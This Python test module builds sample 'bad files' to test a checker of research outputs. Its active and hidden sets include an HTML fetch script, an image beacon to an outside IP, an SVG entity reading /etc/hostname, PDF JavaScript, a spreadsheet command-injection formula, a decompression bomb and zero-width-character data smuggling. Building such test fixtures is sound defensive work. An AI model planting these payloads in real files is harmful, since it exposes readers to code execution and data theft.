"""Bad files: what is not what it says, what runs, what hides something."""

from __future__ import annotations

import base64
import gzip
import io
import pickle
import struct
import zipfile
import zlib
from random import Random

import pyarrow as pa
import pyarrow.parquet as pq
from PIL import Image, ImageDraw, PngImagePlugin

from tests.lib.planted_outputs import PlantedOutput, text
from tests.lib.planted_outputs.bad_tables import bad


def picture(size: tuple[int, int] = (320, 200)) -> Image.Image:
    """Bars."""
    made = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(made)
    for i, height in enumerate((120, 90, 60, 150)):
        draw.rectangle((30 + 70 * i, size[1] - height, 80 + 70 * i, size[1] - 10), fill=(40, 90, 140))
    return made


def png(**options: object) -> bytes:
    out = io.BytesIO()
    picture().save(out, "PNG", **options)
    return out.getvalue()


def with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "patient 000123, bed 7"  # ImageDescription
    exif[0x9286] = "note"  # UserComment
    return png(exif=exif)


def with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", "age,glucose 61,7.1 48,9.2")
    return png(pnginfo=notes)


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def pdf(*objects: bytes, info: bytes = b"", line: bytes = b"BT /F1 12 Tf 72 720 Td (Table 1) Tj ET") -> bytes:
    """A small valid file: one page with a line of text; `objects` follow, the first of them is number 6."""
    first = (
        b"<< /Type /Catalog /Pages 2 0 R" + (b" /OpenAction 6 0 R /Names 6 0 R" if objects else b"") + b" >>"
    )
    parts = [
        first,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(line), line),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
        *((info,) if info else ()),
    ]
    out, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b" /Info %d 0 R" % len(parts) if info else b""
    return out + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(parts) + 1, table, len(parts) + 1, tail, len(out))
    )


def parquet() -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table({"age": [61, 48]}), out)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb() -> bytes:
    """A picture that says it is 60,000 × 60,000."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


ROWS = b"id,age,glucose\n1,61,7.1\n2,48,9.2\n"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">%s<rect width="60" height="90"/></svg>'
)
NUMBER = "990101198703130213"
"""An identity number of an area that does not exist; its check digit holds."""

TYPES = (
    bad("a table as Parquet", "type", "table.parquet", parquet()),
    bad("a book of sheets", "type", "table.xlsx", zipped(xl__workbook=b"<x/>")),
    bad("an archive", "type", "results.zip", zipped(a=ROWS)),
    bad("a page of a word processor", "type", "report.docx", zipped(word__document=b"<x/>")),
    bad("a program for the machine", "type", "tool.bin", b"\x7fELF" + bytes(200)),
    bad("no ending", "type", "table", text("sex,n", "m,600")),
    bad("a book of sheets under another name", "disguised", "table.csv", zipped(xl__workbook=b"<x/>")),
    bad("a picture that is a page", "disguised", "figure.png", b"<html><body>x</body></html>"),
    bad("a Parquet file as text", "disguised", "notes.txt", parquet()),
    bad("JSON that is none", "disguised", "result.json", b"{'a': 1,}"),
    bad("bytes that are no text", "disguised", "notes.txt", bytes(Random(2).randbytes(400))),
    bad("a picture too large to open", "disguised", "figure.png", bomb()),
    bad("a pickle", "serialised", "model.pkl", pickle.dumps({"rows": [1, 2, 3]})),
    bad("a pickle as text", "serialised", "notes.txt", pickle.dumps({"rows": [1, 2, 3]}, protocol=2)),
    bad("an object of R", "serialised", "model.rds", gzip.compress(b"X\n\0\0\0\3\0\4\2\2" + bytes(90))),
    bad("arrays of numpy", "serialised", "data.json", b"\x93NUMPY\1\0v\0{'descr': '<f8'}" + bytes(100)),
    bad("HDF5", "serialised", "net.txt", b"\x89HDF\r\n\x1a\n" + bytes(200)),
    bad("six megabytes", "size", "big.txt", b"row of text\n" * 560_000),
    bad("nothing in it", "size", "empty.csv", b""),
)

ACTIVE = (
    bad(
        "a macro",
        "active",
        "table.xlsm",
        zipped(xl__workbook=b"<x/>", **{"xl__vbaProject.bin": b"Sub Auto_Open"}),
    ),
    bad(
        "a page with a program", "active", "report.html", text("<p>ok</p><script>fetch('http://x')</script>")
    ),
    bad(
        "a page that acts when it is opened", "active", "report.html", text('<p onmouseover="go()">Table</p>')
    ),
    bad(
        "a page that loads from outside",
        "active",
        "report.html",
        text('<img src="http://203.0.113.9/?q=61">'),
    ),
    bad("a drawing with a program", "active", "figure.svg", (SVG % "<script>alert(1)</script>").encode()),
    bad(
        "a drawing that reads files",
        "active",
        "figure.svg",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + (SVG % "<text>&x;</text>").encode(),
    ),
    bad(
        "a document with a program",
        "active",
        "report.pdf",
        pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    ),
    bad(
        "a document with a file in it",
        "active",
        "report.pdf",
        pdf(
            b"<< /EmbeddedFiles << /Names [(data.csv) 7 0 R] >> >>",
            b"<< /Type /Filespec /F (data.csv) /EF << /F 8 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(ROWS), ROWS),
        ),
    ),
    bad(
        "a command in a cell",
        "formula",
        "table.csv",
        text("sex,n,note", "m,600,=cmd|' /C calc'!A0", "f,590,ok"),
    ),
    bad(
        "a link in a cell", "formula", "table.tsv", text("sex\tn\tnote", "m\t600\t@SUM(A1:A9)", "f\t590\tok")
    ),
    bad(
        "a sign before a name",
        "formula",
        "table.csv",
        text("sex,n,note", 'm,600,"+HYPERLINK(""http://x"")"', "f,590,ok"),
    ),
)

HIDDEN = (
    bad("a picture that says where it is from", "metadata", "figure.png", with_exif()),
    bad("a picture with a comment", "metadata", "figure.png", with_text()),
    bad(
        "a drawing with a note",
        "metadata",
        "figure.svg",
        (SVG % "<metadata>author: Dr. Chen, ward 7</metadata><!-- 61,7.1 48,9.2 -->").encode(),
    ),
    bad("a page with a remark", "metadata", "report.html", text("<p>Table</p><!-- rows: 61,7.1 48,9.2 -->")),
    bad(
        "a document that names its author",
        "metadata",
        "report.pdf",
        pdf(info=b"<< /Author (Chen) /Title (ward 7) >>"),
    ),
    bad("an archive behind a picture", "hidden", "figure.png", png() + zipped(rows=ROWS)),
    bad(
        "characters that nobody sees",
        "hidden",
        "notes.txt",
        (
            "The effect was small." + "".join("\u200b\u200c"[int(b)] for c in ROWS for b in f"{c:08b}") + "\n"
        ).encode(),
    ),
    bad(
        "a text that is something else",
        "hidden",
        "result.json",
        b'{"n": 1204, "note": "%s"}' % base64.b64encode(Random(5).randbytes(3000)),
    ),
    bad(
        "a table hidden in a page",
        "hidden",
        "report.html",
        text('<p>Table</p><div style="display:none">61,7.1 48,9.2</div>'),
    ),
    bad(
        "white on white",
        "hidden",
        "figure.svg",
        (SVG % '<text x="1" y="9" font-size="0.1">age 61 glucose 7.1 age 48 glucose 9.2</text>').encode(),
    ),
)

IDENTIFIERS = (
    bad("an identity number", "identifier", "notes.txt", text(f"The outlier is {NUMBER}, seen twice.")),
    bad(
        "a telephone in a program",
        "identifier",
        "model.py",
        text("# ask 13900001234 about the outlier", "fit(x)"),
    ),
    bad(
        "a project's name of a person",
        "identifier",
        "notes.txt",
        text("We left out s_0123456789abcdef01234567 because of a missing day."),
    ),
    bad(
        "an address of mail",
        "identifier",
        "notes.txt",
        text("The patient wrote from li.example@mail.example.cn."),
    ),
    bad(
        "an identity number in a document",
        "identifier",
        "report.pdf",
        pdf(line=b"BT /F1 12 Tf 72 720 Td (Outlier %s) Tj ET" % NUMBER.encode()),
    ),
)

BAD_FILES: tuple[PlantedOutput, ...] = (*TYPES, *ACTIVE, *HIDDEN, *IDENTIFIERS)
